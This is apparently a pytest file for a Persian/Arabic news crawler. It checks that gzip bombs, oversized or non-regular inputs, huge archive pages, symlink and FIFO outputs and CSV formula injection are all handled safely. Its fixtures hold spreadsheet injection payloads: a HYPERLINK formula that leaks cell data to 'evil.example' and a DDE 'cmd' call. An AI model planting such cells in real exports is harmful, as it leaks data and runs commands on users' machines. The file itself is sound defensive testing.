"""Files in and out stay within bounds (issue 24).

In: a web archive's capture that is a gzip bomb is inflated in a stream up to the crawl's cap; ``akhbar extract``
reads regular files only, at most DOWNLOAD_MAXSIZE (inflated too); a date-archive page of ~600,000 anchors is
read in a number of comparisons linear in its links. Out: ``akhbar export`` and ``akhbar plot`` refuse an output
inside the data dir's stored folders, a symbolic link, a FIFO or a device, write their temporary with ``O_EXCL``
(never through a planted link), and CSV cells a spreadsheet would run are neutralised.

Each bad input: one ``error:`` line, exit code 2, nothing written. Each case prints its ``FAULT`` line.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import time
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from urllib.parse import urljoin

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from faultkit import FAULT_CRAWL, archived_pages, measured_crawl, report, rows_for
from scrapy import Request
from scrapy.http import HtmlResponse
from typer.testing import CliRunner

from akhbar import cli
from akhbar.crawler import discovery
from akhbar.settings import Settings
from akhbar.testweb import faults as F
from akhbar.testweb.archive_stack import Capture, CommonCrawl, page, write_warc

pytestmark = pytest.mark.faults
DAY = date(2025, 1, 7)
SLUG = "fa-sepehr"
AKHBAR = str(Path(sys.executable).parent / "akhbar")
#: the gzip bomb of the issue: ~1 MB of gzip that inflates to 1 GB
BOMB_BYTES = 1_000_000_000
CAP = int(FAULT_CRAWL["DOWNLOAD_MAXSIZE"])
ARTICLE = """<html lang="fa"><head><meta charset="utf-8"><title>گفت‌وگوی تلفنی وزیران خارجه</title></head><body>
<article><h1>گفت‌وگوی تلفنی وزیران خارجه</h1>
<p>وزیران امور خارجه دو کشور در گفت‌وگوی تلفنی درباره آخرین تحولات منطقه و راه‌های کاهش تنش‌ها رایزنی کردند.</p>
</article></body></html>"""


def _one_error_line(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), stderr
    return lines[0]


# -- in: a web archive's gzip bomb ------------------------------------------------------------------------------

def test_an_archived_gzip_bomb_is_inflated_within_the_cap(testweb, testweb_outlets: Path, tmp_path: Path):
    """A Common Crawl capture of an article URL whose body is a gzip bomb (Content-Encoding: gzip): the soft-404
    check inflates at most DOWNLOAD_MAXSIZE of it, the compression middleware refuses it (too_large), the other
    article of the day is stored; the crawl process stays small (the old code: 2048 MB here)."""
    base = testweb.base_url(SLUG).rstrip("/")
    when = datetime(DAY.year, DAY.month, DAY.day, 20, tzinfo=UTC)
    bomb = F.gzip_bomb(BOMB_BYTES)
    good, bad = "/news/9990101", "/news/9990102"
    captures = [page(base + good, when, ARTICLE),
                Capture(base + bad, when + timedelta(minutes=1), "200 OK",
                        [("Content-Type", "text/html; charset=utf-8"), ("Content-Encoding", "gzip"),
                         ("Content-Length", str(len(bomb)))], bomb)]
    warc = tmp_path / "archive" / "captures.warc.gz"
    write_warc(warc, captures)
    archive = CommonCrawl(tmp_path / "cc", warc).start()
    try:
        nowhere = "http://127.0.0.1:9/wb"  # the Wayback settings are not used by a Common Crawl crawl
        cfg = Settings(wayback_url=nowhere, wayback_cdx_url=nowhere, cc_index_url=archive.index_url,
                       cc_data_url=archive.data_url, cc_rate=6000)
        data = tmp_path / "data"
        result = measured_crawl([SLUG], DAY, data, testweb_outlets, "bomb",
                                overrides={**FAULT_CRAWL, **cfg.archive_overrides("commoncrawl")})
    finally:
        archive.stop()
    bombed, = rows_for(data, DAY, SLUG, bad)
    fine, = rows_for(data, DAY, SLUG, good)
    stored = archived_pages(data, DAY, SLUG)
    report(f"archived capture = gzip bomb ({len(bomb) / 1e6:.2f} MB gzip, {BOMB_BYTES / 1e9:.0f} GB inflated; "
           f"crawl peak RSS {result.peak_rss_mb:.0f} MB; the old code 2048 MB)", "1",
           f"{bombed['outcome']} ({bombed['reason']})", len(stored))
    assert bombed["outcome"] == "too_large" and "DOWNLOAD_MAXSIZE" in bombed["reason"], bombed
    assert fine["outcome"] == "ok" and len(stored) == 1
    # the crawl child's peak: the fault suite's crawls peak at ~180 MB; one inflated bomb would be 1-2 GB
    assert result.peak_rss_mb < 400, result.peak_rss_mb


# -- in: akhbar extract --------------------------------------------------------------------------------------

def _extract_measured(path: str) -> tuple[subprocess.CompletedProcess, float, float]:
    """``akhbar extract PATH`` in a fresh process; (result, its peak RSS in MB, seconds)."""
    probe = ("import json, resource, subprocess, sys; p = subprocess.run(sys.argv[1:], capture_output=True, "
             "text=True, timeout=60); print(json.dumps([p.returncode, p.stdout, p.stderr, "
             "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss]))")
    env = {**os.environ, "NO_COLOR": "1", "COLUMNS": "200"}
    t0 = time.monotonic()
    out = subprocess.run([sys.executable, "-c", probe, AKHBAR, "extract", path], capture_output=True, text=True,
                         env=env, timeout=120, check=True)
    code, stdout, stderr, peak_kb = json.loads(out.stdout)
    return subprocess.CompletedProcess([path], code, stdout, stderr), peak_kb / 1024, time.monotonic() - t0


def test_extract_reads_regular_files_only_and_no_more_than_the_cap(tmp_path: Path):
    fifo = tmp_path / "page.html"
    os.mkfifo(fifo)
    big = tmp_path / "big.html"
    big.write_bytes(b"<html><body><p>" + "خبر ".encode() * (17 * 1024 * 1024 // 7) + b"</p></body></html>")
    bomb = tmp_path / "bomb.html.gz"
    bomb.write_bytes(F.gzip_bomb(BOMB_BYTES))
    cases = {"/dev/zero": "not a regular file", str(fifo): "not a regular file", str(big): "larger than",
             str(bomb): "inflates past"}
    for path, why in cases.items():
        done, peak_mb, seconds = _extract_measured(path)
        line = _one_error_line(done.stderr)
        report(f"akhbar extract {Path(path).name} ({seconds:.1f} s, peak RSS {peak_mb:.0f} MB)", "1",
               f"exit {done.returncode} ({line})", 0)
        assert done.returncode == 2 and why in line and done.stdout == "", (path, done)
        assert peak_mb < 250, (path, peak_mb)  # the old code: /dev/zero read until 2.5 GB, the bomb inflated whole
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)  # the FIFO is left as it was (nothing waited on it)


# -- in: a date-archive page of 600,000 anchors -----------------------------------------------------------------

class _Counted(str):
    """A URL string that counts the equality tests made on it (a list lookup per link makes n²/2)."""

    eq = 0

    def __eq__(self, other: object) -> bool:
        _Counted.eq += 1
        return str.__eq__(self, other)

    __hash__ = str.__hash__

    def split(self, *args, **kwargs) -> list[str]:  # type: ignore[override]
        return [_Counted(p) for p in str.split(self, *args, **kwargs)]


def test_a_600k_anchor_archive_page_takes_linear_comparisons(tmp_path: Path, monkeypatch):
    """The old code looked each "next" link up in a list: n²/2 comparisons, ~36 min of CPU for this 16 MiB page,
    all of it on the reactor thread (every outlet of the process stalled). Counted, not timed: at most one
    comparison per anchor. Figures before/after: bench/archive_page_bench.py."""
    monkeypatch.syspath_prepend(str(Path(__file__).resolve().parents[1]))  # bench/ is not installed
    from akhbar.crawler.spiders.outlet_day import OutletDaySpider
    from bench.archive_page_bench import OUTLET
    from bench.archive_page_bench import page as archive_page

    (tmp_path / "bench-archive.toml").write_text(OUTLET, encoding="utf-8")
    spider = OutletDaySpider(outlet="bench-archive", day=DAY.isoformat(), data_dir=str(tmp_path / "data"),
                             outlets_dir=str(tmp_path))
    spider.archived = {}
    spider._log = lambda *a, **k: None
    anchors = 600_000
    body = archive_page(anchors, "next")
    url = spider.outlet.archive_urls(DAY, page=1)[0]
    response = HtmlResponse(url, body=body, encoding="utf-8", request=Request(
        url, meta={"akhbar_url": url, "akhbar_kind": "archive", "page": 1, "local_day": DAY}))
    monkeypatch.setattr(discovery, "urljoin", lambda base, href: _Counted(urljoin(base, href)))
    # the count is real: the URLs compared are _Counted, and a repeated link costs one comparison
    small = discovery.ArchivePage(archive_page(3, "next") + archive_page(3, "next"), url, "utf-8")
    assert len(small.next_pages) == 3 and all(isinstance(u, _Counted) for u in small.next_pages)
    assert _Counted.eq == 6  # one per repeated link: 3 among the links, 3 among the next links
    _Counted.eq = 0
    cpu = time.process_time()
    requests = list(spider._archive(response))
    cpu = time.process_time() - cpu
    report(f"archive page of {anchors} «»» anchors ({len(body) / 2**20:.1f} MiB; callback {cpu:.1f} s CPU, "
           f"{_Counted.eq} URL comparisons; the old code 1.8e11, ~36 min CPU)", "1", "ok (1 next page queued)", 0)
    assert _Counted.eq <= anchors
    assert [r.url for r in requests] == [urljoin(url, "?page=2")]


# -- out: export and plot --------------------------------------------------------------------------------------

ROWS = [
    {"article_id": "a1", "url": "https://www.example.ir/news/1",
     "title": '=HYPERLINK("http://evil.example/?d="&A1,"خبر فوری")',
     "text": "-۵ درصد رشد اقتصادی", "tags": ["=1+1", "اقتصاد"], "section": "+98",
     "signature": b"\xfb\xff\xbf", "text_chars": 19},
    {"article_id": "a2", "url": "https://www.example.com/news/2", "title": "-3",
     "text": "@SUM(A1:A9) الأرصاد", "description": "\tقال المسؤول", "section": "\r=cmd|' /C calc'!A0",
     "signature": b"\x00", "text_chars": 18},
]


@pytest.fixture
def lake_dir(tmp_path: Path) -> Path:
    """A data dir whose lake holds two articles with formula-like cells."""
    from akhbar.warehouse.lake import Lake
    from akhbar.warehouse.schema import TABLES

    schema = TABLES["articles"]
    table = pa.table({f.name: pa.array([r.get(f.name) for r in ROWS], f.type) for f in schema}, schema=schema)
    data = tmp_path / "data"
    Lake(str(data / "lake")).replace_partition("articles", DAY, "fa-test", table)
    return data


def _tree(root: Path) -> dict[str, tuple[str, bytes | None]]:
    """Every entry under ``root``: its kind and, for files, its bytes (links not followed)."""
    out = {}
    for p in sorted(root.rglob("*")):
        mode = os.lstat(p).st_mode
        kind = "link" if stat.S_ISLNK(mode) else "fifo" if stat.S_ISFIFO(mode) else "dir" if stat.S_ISDIR(mode) \
            else "device" if stat.S_ISCHR(mode) else "file"
        out[str(p.relative_to(root))] = (kind, p.read_bytes() if kind == "file" else os.readlink(p)
                                          if kind == "link" else None)
    return out


def _run(args: list[str], cwd: Path, monkeypatch) -> tuple[int, str]:
    monkeypatch.chdir(cwd)
    monkeypatch.setattr(cli, "_settings", None)
    done = CliRunner().invoke(cli.app, args, env={"AKHBAR_LAKE_URI": "", "NO_COLOR": "1", "COLUMNS": "200"})
    return done.exit_code, done.output


def _bad_outputs(root: Path, data: Path) -> dict[str, Path]:
    """Outputs that must be refused, each made in ``root``: name -> the path given to -o."""
    partition = next((data / "lake" / "articles").rglob("part-0.parquet"))
    victim = root / "victim.txt"
    victim.write_text("keep me\n")
    os.mkfifo(root / "fifo")
    (root / "link.csv").symlink_to(victim)
    (root / "to-lake").symlink_to(partition.parent, target_is_directory=True)
    out = {"a lake partition": partition, "a new file in the lake": data / "lake" / "articles" / "new.csv",
           "the WARC folder": data / "warc" / "x.csv", "the DuckDB file": data / "akhbar.duckdb",
           "a FIFO": root / "fifo", "a symbolic link": root / "link.csv",
           "a folder linked into the lake": root / "to-lake" / "part-0.parquet", "a directory": root}
    try:
        os.mknod(root / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))  # /dev/null's twin: writes vanish
        out["a device node"] = root / "null"
    except PermissionError:
        pass
    return out


@pytest.mark.parametrize("command", ["export", "plot"])
def test_outputs_into_stored_data_links_fifos_and_devices_are_refused(lake_dir: Path, tmp_path: Path, monkeypatch,
                                                                      command: str):
    root = tmp_path / "out"
    root.mkdir()
    bad = _bad_outputs(root, lake_dir)
    before = _tree(tmp_path)
    for what, path in bad.items():
        args = (["export", "--table", "articles", "--format", "csv", "-o", str(path)] if command == "export"
                else ["plot", "volume", "-o", str(path)])
        code, output = _run([*args, "--data-dir", str(lake_dir)], tmp_path, monkeypatch)
        line = _one_error_line(output)
        report(f"akhbar {command} -o {what}", "1", f"exit {code} ({line})", len(ROWS))
        assert code == 2, (what, output)
        assert _tree(tmp_path) == before, what  # nothing written, replaced or removed
    # a relative -o from inside the data dir, as the issue's `-o lake/articles/day=…/part-0.parquet`
    partition = bad["a lake partition"].relative_to(lake_dir)
    code, output = _run([command, *(["--table", "articles", "--format", "csv"] if command == "export"
                                    else ["volume"]), "-o", str(partition), "--data-dir", "."], lake_dir, monkeypatch)
    assert code == 2 and "stored data" in output and _tree(tmp_path) == before


@pytest.mark.parametrize("command", ["export", "plot"])
def test_a_link_planted_at_the_temporary_name_is_never_followed(lake_dir: Path, tmp_path: Path, monkeypatch,
                                                               command: str):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    out = tmp_path / ("articles.csv" if command == "export" else "chart.png")
    # the old code's temporary name (.NAME.PID.tmp, this process's pid: the runner runs in it) planted as a link
    (tmp_path / f".{out.name}.{os.getpid()}.tmp").symlink_to(victim)
    args = (["export", "--table", "articles", "--format", "csv"] if command == "export" else ["plot", "volume"])
    code, output = _run([*args, "-o", str(out), "--data-dir", str(lake_dir)], tmp_path, monkeypatch)
    assert code == 0, output
    assert victim.read_text() == "keep me\n" and out.stat().st_size > 0
    # a link planted at the very name about to be used: O_EXCL | O_NOFOLLOW refuse it, nothing is written through it
    monkeypatch.setattr("akhbar.export._temporary_name", lambda name: f".{name}.planted.tmp")
    (tmp_path / f".{out.name}.planted.tmp").symlink_to(victim)
    before = _tree(tmp_path)
    code, output = _run([*args, "-o", str(out), "--data-dir", str(lake_dir)], tmp_path, monkeypatch)
    line = _one_error_line(output)
    report(f"akhbar {command}: link planted at the temporary name", "1", f"exit {code} ({line})", len(ROWS))
    assert code == 2 and _tree(tmp_path) == before


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(lake_dir: Path, tmp_path: Path, monkeypatch):
    import csv

    out = {fmt: tmp_path / f"a.{fmt}" for fmt in ("csv", "jsonl", "parquet")}
    for fmt, path in out.items():
        code, output = _run(["export", "--table", "articles", "--format", fmt, "-o", str(path), "--data-dir",
                             str(lake_dir)], tmp_path, monkeypatch)
        assert code == 0, output
    with open(out["csv"], encoding="utf-8", newline="") as fh:
        rows = {r["article_id"]: r for r in csv.DictReader(fh)}
    a1, a2 = rows["a1"], rows["a2"]
    assert a1["title"] == "'" + ROWS[0]["title"] and a1["text"] == "'-۵ درصد رشد اقتصادی"
    assert a2["text"] == "'@SUM(A1:A9) الأرصاد" and a2["description"] == "'\tقال المسؤول"
    assert a2["section"] == "'" + ROWS[1]["section"]
    assert a2["title"] == "-3" and a1["section"] == "+98"  # numbers that are numbers are kept
    assert json.loads(a1["tags"]) == ["=1+1", "اقتصاد"]  # a JSON array starts with [: a spreadsheet shows it as text
    assert a1["signature"] == "+/+/"  # base64 (its letters cannot make a formula) stays exact for from_base64()
    # JSON lines and Parquet are written as stored
    jsonl = {r["article_id"]: r for r in map(json.loads, out["jsonl"].read_text(encoding="utf-8").splitlines())}
    parquet = {r["article_id"]: r for r in pq.read_table(out["parquet"]).to_pylist()}
    for want in ROWS:
        assert jsonl[want["article_id"]]["title"] == parquet[want["article_id"]]["title"] == want["title"]
    # --raw-cells: every CSV cell as stored
    raw = tmp_path / "raw.csv"
    code, output = _run(["export", "--table", "articles", "--format", "csv", "--raw-cells", "-o", str(raw),
                         "--data-dir", str(lake_dir)], tmp_path, monkeypatch)
    assert code == 0, output
    with open(raw, encoding="utf-8", newline="") as fh:
        assert {r["article_id"]: r["title"] for r in csv.DictReader(fh)} == {r["article_id"]: r["title"] for r in ROWS}
    code, output = _run(["export", "--table", "articles", "--format", "jsonl", "--raw-cells", "-o",
                         str(tmp_path / "x.jsonl"), "--data-dir", str(lake_dir)], tmp_path, monkeypatch)
    assert code == 2 and "--raw-cells" in _one_error_line(output) and not (tmp_path / "x.jsonl").exists()
    report("CSV cells =HYPERLINK(…), -…, @SUM(…), TAB…, CR=cmd|…", "1",
           f"neutralised with a leading ' ({sum(v.startswith(chr(39)) for r in rows.values() for v in r.values())} "
           "cells); numbers, base64, JSON lines and Parquet as stored", len(ROWS))
